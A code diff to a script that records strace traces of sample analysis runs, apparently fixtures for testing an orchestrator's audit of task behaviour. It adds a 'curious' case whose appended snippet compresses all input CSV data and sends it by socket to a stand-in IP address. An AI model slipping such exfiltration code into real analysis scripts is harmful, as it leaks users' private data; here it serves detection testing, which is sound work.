@@ -1,6 +1,6 @@
 """Records the traces of this folder that are made by real runs, with the strace and Python of this machine:
 
-    unshare --net python -m tests.data.strace.record
+    unshare --net python -m tests.data.strace.record [NAME…]
 
 as root, on a machine without a /task, which is made for it and taken away. What the findings must say of each stands in
 NAME.json. Those that are not listed here were recorded before, or are written by hand.
@@ -10,7 +10,9 @@ from __future__ import annotations
 
 import shutil
 import subprocess
+import sys
 import time
+from collections.abc import Sequence
 from pathlib import Path
 
 from orchestrator.domain.task import TraceProfile
@@ -54,22 +56,48 @@ sys.exit(3)
     "data/b\tpatient é.csv": "3\n",
     "data/never.csv": "4\n",
 }
-CASES: dict[str, tuple[TraceProfile, tuple[str, ...]]] = {
-    "analysis-audit": (TraceProfile.AUDIT, ("python3", "-IS", "/task/in/code/run.py", "/task/in/data")),
-    "analysis-full": (TraceProfile.FULL, ("python3", "-IS", "/task/in/code/run.py", "/task/in/data")),
+PENGUINS = HERE.parents[2] / "examples" / "penguins"
+ANALYSE = (PENGUINS / "analyse.py").read_text()
+DATA = {f"data/{name}.csv": (PENGUINS / "data" / "penguins.csv").read_text() for name in ("2007", "2008", "penguins")}
+CURIOUS = """
+    import socket, subprocess
+    subprocess.run(["sh", "-c", "cat /task/in/data/*.csv | gzip >/task/tmp/all.gz"])
+    try:
+        socket.create_connection(("203.0.113.9", 443), timeout=5).sendall(Path("/task/tmp/all.gz").read_bytes())
+    except OSError as error:
+        print(error)
+    Path("/task/tmp/all.gz").unlink()
+"""
+Inputs = dict[str, str]
+CASES: dict[str, tuple[Inputs, TraceProfile, tuple[str, ...]]] = {
+    "penguins": (
+        {"code/analyse.py": ANALYSE, **DATA},
+        TraceProfile.AUDIT,
+        ("python3", "/task/in/code/analyse.py", "/task/in/data/penguins.csv"),
+    ),
+    "penguins-curious": (
+        {"code/analyse.py": ANALYSE + CURIOUS, **DATA},
+        TraceProfile.AUDIT,
+        ("python3", "/task/in/code/analyse.py", "/task/in/data/penguins.csv"),
+    ),
+    "analysis-audit": (INPUTS, TraceProfile.AUDIT, ("python3", "-IS", "/task/in/code/run.py", "/task/in/data")),
+    "analysis-full": (INPUTS, TraceProfile.FULL, ("python3", "-IS", "/task/in/code/run.py", "/task/in/data")),
     "many-at-once": (
+        {},
         TraceProfile.AUDIT,
         ("sh", "-c", "for i in 1 2 3; do (cd /task/tmp; echo $i >$i; cat $i >/dev/null; rm $i) & done; wait"),
     ),
 }
 
 
-def main() -> None:
+def main(wanted: Sequence[str] = ()) -> None:
     TASK.mkdir()
     try:
-        for name, (profile, words) in CASES.items():
+        for name, (inputs, profile, words) in CASES.items():
+            if wanted and name not in wanted:
+                continue
             shutil.rmtree(TASK / "in", ignore_errors=True)
-            for path, content in INPUTS.items():
+            for path, content in inputs.items():
                 (TASK / "in" / path).parent.mkdir(parents=True, exist_ok=True)
                 (TASK / "in" / path).write_text(content)
             for folder in ("out", "tmp"):
@@ -99,4 +127,4 @@ def _over(trace: Path) -> bool:
 
 
 if __name__ == "__main__":
-    main()
+    main(sys.argv[1:])
